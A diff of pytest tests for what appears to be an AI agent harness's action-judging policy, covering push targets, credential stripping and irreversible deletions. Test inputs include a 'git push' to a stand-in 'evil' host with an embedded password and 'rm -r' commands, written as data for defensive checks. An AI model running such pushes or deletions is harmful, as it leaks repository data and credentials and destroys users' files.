@@ -3,18 +3,22 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import Any
 
 import pytest
 
 from harness.events.action import action_hash
+from harness.events.addresses import strip_credential
 from harness.policy.build import build_action
-from harness.policy.facts import Facts, FenceFacts
+from harness.policy.facts import Facts, FenceFacts, Target
 from harness.policy.judge import Verdict, judge
-from harness.policy.push import parse_push, strip_credential
+from harness.policy.push import parse_push
 from harness.policy.rules import default_policy, parse_policy
 
 HEAD = "a" * 40
+NAMED = {"address": "work:x.git", "base": "/home/me/x", "pushurl": False, "configured": True}
+TARGET = Target("https://host/x.git", NAMED, "/home/me/x/.git")
 
 
 def facts(**changes: Any) -> Facts:
@@ -24,6 +28,7 @@ def facts(**changes: Any) -> Facts:
         "head": HEAD,
         "home": "/home/me",
         "remotes": {"origin": "https://me:secret@host/x.git", "backup": "/srv/b.git"},
+        "target": TARGET,
         "commits": {"HEAD": HEAD, "main": "b" * 40},
         "remote_refs": {"refs/heads/main": "c" * 40},
         "fence": FenceFacts(("/opt/x",), ("/w/tree",), (("/w/tree", "/w/tree", "rw"),)),
@@ -90,9 +95,17 @@ def test_writing_below_git_is_denied(path: str) -> None:
 
 @pytest.mark.parametrize(("access", "risk"), [("network", "medium"), ("unfenced", "critical")])
 def test_leaving_the_fence_asks_with_preconditions(access: str, risk: str) -> None:
-    action, verdict = act("exec", {"argv": ["make"], "access": access}, hashes={"Makefile": "0" * 64})
+    shown = {"snapshot": "s1.00", "cwd_identity": {"dev": 1, "ino": 3}, "program": {"path": "/usr/bin/make", "dev": 5, "ino": 6, "sha": "0" * 64}}
+    action, verdict = act("exec", {"argv": ["make"], "access": access}, **shown)
     assert action["effects"] == [access]
-    assert action["pre"] == {"files": {"Makefile": "0" * 64}, "head": HEAD, "worktree": {"dev": 1, "ino": 2}}
+    assert action["pre"] == {
+        "files": {},
+        "head": HEAD,
+        "worktree": {"dev": 1, "ino": 2},
+        "cwd": shown["cwd_identity"],
+        "program": shown["program"],
+        "snapshot": "s1.00",
+    }
     assert (verdict.verdict, verdict.risk) == ("ask", risk)
     assert action["fence"]["fenced"] is (access == "network")
     assert action["env"]["HOME"] == ("/tmp/home" if access == "network" else "/home/me")
@@ -121,10 +134,25 @@ def test_no_credential_reaches_the_action() -> None:
     action, _ = act("exec", {"argv": ["git", "push"]})
     assert action["url"] == "https://host/x.git"
     assert "not recorded" in action["note"]
-    direct, _ = act("exec", {"argv": ["git", "push", "https://you:pw@evil/x.git"]})
+    direct, _ = act("exec", {"argv": ["git", "push", "https://you:pw@evil/x.git"]}, target=replace(TARGET, url="https://evil/x.git"))
     assert "secret" not in json.dumps(action)
     assert "pw" not in json.dumps(direct)
     assert direct["effects"] == ["push:https://evil/x.git refs/heads/wf/x"]
+
+
+def test_what_a_push_rests_on_is_in_its_action() -> None:
+    local = {"folder": "/srv/x.git", "hooks": ["pre-receive"], "programs": []}
+    action, verdict = act("exec", {"argv": ["git", "push"]}, target=replace(TARGET, url="/srv/x.git", local=local, seen="work:x.git", others=1))
+    assert (action["url"], action["named"], action["local"], action["repository"]) == ("/srv/x.git", NAMED, local, "/home/me/x/.git")
+    assert action["pre"]["url"] == "work:x.git"
+    assert "2 addresses" in action["note"]
+    assert verdict.verdict == "ask"
+
+
+@pytest.mark.parametrize("target", [None, replace(TARGET, refused="it is a folder that an agent can write")])
+def test_a_push_that_leads_nowhere_known_is_denied(target: Target | None) -> None:
+    _, verdict = act("exec", {"argv": ["git", "push"]}, target=target)
+    assert (verdict.verdict, verdict.rule) == ("deny", "refused")
 
 
 @pytest.mark.parametrize("flags", [["-f"], ["--force"], ["--force-with-lease"]])
@@ -175,8 +203,15 @@ def test_options_end_where_git_ends_them() -> None:
     assert parse_push(["git", "push", "--", "origin", "HEAD"], "b").specs == (("HEAD", "refs/heads/b", False),)
 
 
+@pytest.mark.parametrize("tool", ["exec", "shell", "write_file"])
+def test_what_cannot_be_undone_asks_and_says_why(tool: str) -> None:
+    given = {"exec": {"argv": ["rm", "-r", "x"]}, "shell": {"script": "rm -r x"}, "write_file": {"path": "x", "content": ""}}[tool]
+    assert act(tool, given)[1].verdict == "allow"
+    action, verdict = act(tool, given, unprotected="the tree holds more than 1000000 names")
+    assert (action["effects"], action["unprotected"], verdict.verdict) == (["no-undo"], "the tree holds more than 1000000 names", "ask")
+    assert "cannot be undone" in verdict.reason
+
+
 def test_names_that_are_no_text_are_shown_escaped_or_refused() -> None:
-    action, verdict = act("exec", {"argv": ["git", "clean", "-fd"]}, untracked=("a\udcff",))
-    assert (action["effects"], verdict.verdict) == (["delete-untracked:a\\udcff"], "ask")
     action, verdict = act("read_file", {"path": "link"}, resolved={"link": "/x/\udcff"})
     assert (action["outside"], verdict.verdict) == (["/x/\\udcff"], "deny")
